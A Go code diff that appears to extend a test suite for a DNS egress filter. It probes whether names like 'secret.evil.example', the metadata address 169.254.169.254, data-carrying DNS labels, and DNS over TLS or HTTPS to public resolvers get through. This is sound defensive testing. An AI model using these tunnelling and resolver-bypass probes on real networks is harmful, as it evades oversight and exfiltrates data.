@@ -1,9 +1,12 @@
 package main
 
 import (
+	"bytes"
+	"encoding/base64"
 	"encoding/binary"
 	"fmt"
 	"net"
+	"net/http"
 	"strings"
 	"time"
 )
@@ -19,25 +22,45 @@ func names() {
 	for _, name := range []string{
 		"secret.evil.example", "secret.a.example", "secreta.example", "a.example.secret", "b\xc3\xbccher.secret.example", "a\x00secret.example",
 		"secret\r\n.example", "secret%2e.example", "169.254.169.254", strings.Repeat("secret", 10) + ".evil.example", "secret..a.example",
+		"SECRET.A.EXAMPLE", "\u0430.example", "xn--80a.example",
 	} {
 		for t, n := range types {
 			for _, network := range []string{"udp", "tcp"} {
-				tell("dns", fmt.Sprint(network, " ", t, " ", name), answered(ask(network, question(name, n))))
+				tell("dns", fmt.Sprint(network, " ", t, " ", name), answered(resolve(network, question(name, n))))
 			}
 		}
 	}
 	for t, n := range types {
 		if t != "A" && t != "AAAA" {
-			tell("dns", t+" a.example", answered(ask("udp", question("a.example", n))))
+			tell("dns", t+" a.example", answered(resolve("udp", question("a.example", n))))
 		}
 	}
 	for _, network := range []string{"udp", "tcp"} {
-		got := ask(network, []byte("GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
+		got := resolve(network, []byte("GET /secret HTTP/1.1\r\nHost: evil.example\r\n\r\n"))
 		left := ""
 		if strings.Contains(string(got), "HTTP") {
 			left = string(got)
 		}
 		tell("dns", network+" what is no question", left)
+	}
+}
+
+// Labels that carry something below a wildcard that is allowed: so many bytes at once and so many a second, and
+// each name beyond is refused.
+func labels() {
+	const all, burst, rate = 400, 16 << 10, 64
+	begun, sent := time.Now(), 0
+	for i := range all {
+		name := fmt.Sprintf("secret%044d.names.example", i)
+		answer := resolve("udp", question(name, 1))
+		if len(answer) == 0 {
+			continue // it came too late
+		}
+		if answered(answer) == "" {
+			tell("dns-rate", name, "")
+		} else if sent += len(name); sent > burst+rate*int(time.Since(begun).Seconds()+1) {
+			tell("dns-rate", name, fmt.Sprint(sent, " bytes in names after ", time.Since(begun)))
+		}
 	}
 }
 
@@ -49,8 +72,8 @@ func question(name string, kind uint16) []byte {
 	return append(binary.BigEndian.AppendUint16(append(b, 0), kind), 0, 1)
 }
 
-// ask gives what a resolver answers within a moment, as a datagram has it.
-func ask(network string, q []byte) []byte {
+// resolve gives what the resolver answers within a moment, as a datagram has it.
+func resolve(network string, q []byte) []byte {
 	c, err := net.Dial(network, resolver)
 	if err != nil {
 		return nil
@@ -75,4 +98,52 @@ func answered(b []byte) string {
 		return ""
 	}
 	return string(b)
+}
+
+// Other resolvers, by TLS and by HTTPS: public ones, one with a name, and allowed sites that are none.
+func resolvers() {
+	for _, to := range []string{"1.1.1.1", "8.8.8.8", "198.18.0.1", "a.example", "b.example", "dns.example"} {
+		kind := "flow"
+		if to == "dns.example" {
+			kind = "dns"
+		}
+		left := ""
+		if c, err := dial(to + ":853"); err == nil {
+			left = "a connection"
+			c.Close()
+		}
+		tell(kind, "DNS over TLS of "+to, left)
+	}
+	q := question("secret.evil.example", 16)
+	for url, kind := range map[string]string{"https://1.1.1.1": "flow", "https://8.8.8.8": "flow", "https://dns.example": "dns", "http://b.example": "none", "https://a.example": "none"} {
+		for _, method := range []string{http.MethodGet, http.MethodPost} {
+			tell(kind, "DNS over HTTPS of "+url+", "+method, overHTTPS(method, url+"/dns-query", q, kind == "none"))
+		}
+	}
+}
+
+// overHTTPS says what came of a question in a request. A site that is no resolver may answer, but not that.
+func overHTTPS(method, url string, q []byte, site bool) string {
+	body := bytes.NewReader(q)
+	if method == http.MethodGet {
+		url, body = url+"?dns="+base64.RawURLEncoding.EncodeToString(q), bytes.NewReader(nil)
+	}
+	req, err := http.NewRequest(method, url, body)
+	if err != nil {
+		panic(err)
+	}
+	req.Header.Set("Content-Type", "application/dns-message")
+	client := &http.Client{Timeout: patience}
+	res, err := client.Do(req)
+	switch {
+	case err != nil && site:
+		return err.Error()
+	case err != nil:
+		return ""
+	}
+	defer res.Body.Close()
+	if site && res.StatusCode == http.StatusNotFound {
+		return ""
+	}
+	return res.Status
 }
